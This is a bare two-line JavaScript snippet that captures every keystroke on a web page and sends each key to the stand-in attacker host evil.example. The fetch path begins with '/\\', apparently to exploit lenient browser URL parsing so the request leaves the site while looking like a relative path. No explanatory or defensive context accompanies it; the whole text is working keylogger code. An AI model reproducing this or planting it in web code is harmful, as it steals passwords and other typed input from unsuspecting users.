document.addEventListener('keydown', (event) => tell(event.key));
function tell(key) { fetch('/\\evil.example/' + key); }
